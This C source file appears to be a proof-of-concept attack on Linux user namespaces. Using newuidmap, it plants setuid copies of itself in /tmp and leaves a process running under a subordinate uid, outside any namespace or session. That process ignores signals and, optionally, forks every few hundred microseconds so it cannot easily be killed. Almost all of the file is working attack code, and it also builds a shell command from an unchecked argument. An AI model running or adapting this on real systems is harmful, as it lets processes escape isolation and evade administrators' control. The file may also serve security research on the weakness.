/* Leaves a process wholly under a subordinate uid, outside of any user namespace and session: root of a user namespace makes
   a setuid file there, which the user runs outside. Another setuid file, of the user's own, is the way back. If there is a file
   /tmp/hop, the process is another one every few hundred microseconds. */
#include "attack.h"

static void copy_self(const char *path, mode_t mode) {
    char bytes[65536];
    int from = open("/proc/self/exe", O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (from < 0 || to < 0) _exit(10);
    for (ssize_t length; (length = read(from, bytes, sizeof bytes)) > 0;)
        if (write(to, bytes, length) != length) _exit(11);
    if (fchmod(to, mode) != 0) _exit(12);
    close(from);
    close(to);
}

static void outside(void) {
    uid_t uid = geteuid();
    if (setresuid(uid, uid, uid) != 0) _exit(20);
    daemonize();
    be_deaf();
    if (access("/tmp/hop", F_OK) == 0) {
        struct rlimit few = {60, 60};
        if (setrlimit(RLIMIT_NPROC, &few) != 0) _exit(21);
        for (unsigned long hops = 1;; hops++) {
            if (hops % 200 == 1) prove("hops", hops);
            usleep(300);
            if (fork() > 0) _exit(0);
            setsid();
        }
    }
    for (unsigned long beats = 1;; beats++) {
        prove("beats", beats);
        if (access("/tmp/come-back", F_OK) == 0) execl("/tmp/way_back", "way_back", "back", NULL);
        usleep(20000);
    }
}

static void back(void) {
    uid_t uid = geteuid();
    if (setresuid(uid, uid, uid) != 0) _exit(30);
    for (unsigned long beats = 1;; beats++) {
        prove("back", beats);
        usleep(20000);
    }
}

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    if (strcmp(argv[1], "outside") == 0) outside();
    if (strcmp(argv[1], "back") == 0) back();
    umask(0);
    int ready[2], go[2];
    if (pipe(ready) || pipe(go)) return 1;
    pid_t inner = fork();
    if (inner == 0) {
        char byte;
        if (unshare(CLONE_NEWUSER) != 0) _exit(3);
        if (write(ready[1], "x", 1) < 0 || read(go[0], &byte, 1) < 0) _exit(4);
        if (setresuid(5, 5, 5) != 0) _exit(5);
        copy_self("/tmp/way_out", 04755);
        _exit(0);
    }
    char byte, command[128];
    int status;
    close(ready[1]);
    if (read(ready[0], &byte, 1) != 1) return 1;
    snprintf(command, sizeof command, "newuidmap %d 0 %u 1 1 %s 1000", inner, getuid(), argv[1]);
    if (system(command) != 0) return 6;
    if (write(go[1], "x", 1) < 0 || waitpid(inner, &status, 0) < 0 || status != 0) return 7;
    copy_self("/tmp/way_back", 04755);
    execl("/tmp/way_out", "way_out", "outside", NULL);
    return 8;
}
